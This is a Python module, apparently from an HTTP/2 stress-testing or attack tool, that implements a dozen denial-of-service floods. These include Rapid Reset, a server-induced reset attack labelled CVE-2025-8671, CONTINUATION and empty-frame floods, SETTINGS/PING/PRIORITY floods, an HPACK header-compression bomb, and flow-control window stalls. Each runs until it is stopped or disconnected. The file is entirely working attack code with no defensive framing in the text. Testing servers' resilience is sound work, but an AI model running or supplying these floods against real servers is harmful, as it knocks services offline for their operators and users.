"""Floods of HTTP/2: each takes a connection, the side that it leads to and what tells it to stop, sends until then or until
it is thrown out, and gives how many frames it sent.

Knows nothing of what they do to whom.
"""

import struct
import threading
import time

from . import http2
from .http2 import Ended, frame, head
from .sides import STREAMED


def until(stop: threading.Event, send, batch: int = 50) -> int:
    sent = 0
    try:
        while not stop.is_set():
            send()
            sent += batch
    except (Ended, OSError):
        pass
    return sent


def begun_and(connection, side, stop, kind: int, payload: bytes) -> int:
    """Streams that are begun, and a frame for each."""

    def send():
        data = b""
        for _ in range(50):
            stream = connection.stream()
            data += connection.head(head(side.key, None), stream, end=False)
            data += frame(kind, 0, stream, payload)
        connection.send(data)

    return until(stop, send, 100)


def rapid_reset(connection, side, stop):
    return begun_and(connection, side, stop, http2.RST_STREAM, struct.pack(">I", 8))


def made_to_reset(connection, side, stop):
    """CVE-2025-8671: the server is made to reset streams itself."""
    return begun_and(connection, side, stop, http2.WINDOW_UPDATE, struct.pack(">I", 0))


def continuation(connection, side, stop):
    block = b"".join(connection.encoder.encode([(b"x-%d" % n, b"a" * 500)], huffman=False) for n in range(20))
    connection.send(frame(http2.HEADERS, 0, 1, connection.encoder.encode(head(side.key, None))))
    return until(stop, lambda: connection.send(frame(http2.CONTINUATION, 0, 1, block)), 1)


def empty_continuation(connection, side, stop):
    connection.send(frame(http2.HEADERS, 0, 1, connection.encoder.encode(head(side.key, None))))
    return until(stop, lambda: connection.send(frame(http2.CONTINUATION, 0, 1) * 50))


def empty_data(connection, side, stop):
    connection.send(connection.head(head(side.key, None), 1, end=False))
    return until(stop, lambda: connection.send(frame(http2.DATA, 0, 1) * 50))


def small_data(connection, side, stop):
    connection.send(connection.head(head(side.key, None), 1, end=False))
    return until(stop, lambda: connection.send(frame(http2.DATA, 0, 1, b" ") * 50))


def settings_flood(connection, side, stop):
    return until(stop, lambda: connection.send(http2.settings(window=65535) * 50))


def ping_flood(connection, side, stop):
    return until(stop, lambda: connection.send(frame(http2.PING, 0, 0, b"12345678") * 50))


def priority_flood(connection, side, stop):
    def send():
        connection.send(b"".join(frame(http2.PRIORITY, 0, 2 * n + 1, struct.pack(">IB", 2 * n + 3, 7)) for n in range(50)))

    return until(stop, send)


def header_bomb(connection, side, stop):
    """One long field, entered once and named thousands of times."""
    fields = b"".join(http2.literal(name, value) for name, value in head(side.key, None))
    bomb = fields + http2.literal(b"x-bomb", b"a" * 3000, indexed=True) + b"\xbe" * 8000

    def send():
        connection.send(frame(http2.HEADERS, http2.END_HEADERS | http2.END_STREAM, connection.stream(), bomb))

    return until(stop, send, 1)


def closed_windows(connection, side, stop):
    """Answers that are asked for and never taken."""
    connection.send(http2.settings(window=0))
    asked = 0
    for _ in range(100):
        stream = connection.stream()
        connection.send(connection.head(head(side.key, len(STREAMED)), stream, end=False))
        connection.send(frame(http2.DATA, http2.END_STREAM, stream, STREAMED))
        asked += 2
    return asked + until(stop, lambda: (connection.send(frame(http2.PING, 0, 0, b"12345678")), time.sleep(0.05)), 1)


def crumbs_of_window(connection, side, stop):
    """One octet at a time."""
    connection.send(http2.settings(window=1))
    streams = []
    for _ in range(50):
        streams.append(connection.stream())
        connection.send(connection.head(head(side.key, len(STREAMED)), streams[-1], end=False))
        connection.send(frame(http2.DATA, http2.END_STREAM, streams[-1], STREAMED))
    grant = b"".join(frame(http2.WINDOW_UPDATE, 0, stream, struct.pack(">I", 1)) for stream in streams)
    return until(stop, lambda: connection.send(grant))


FLOODS = [rapid_reset, made_to_reset, continuation, empty_continuation, empty_data, small_data, settings_flood, ping_flood,
          priority_flood, header_bomb, closed_windows, crumbs_of_window]
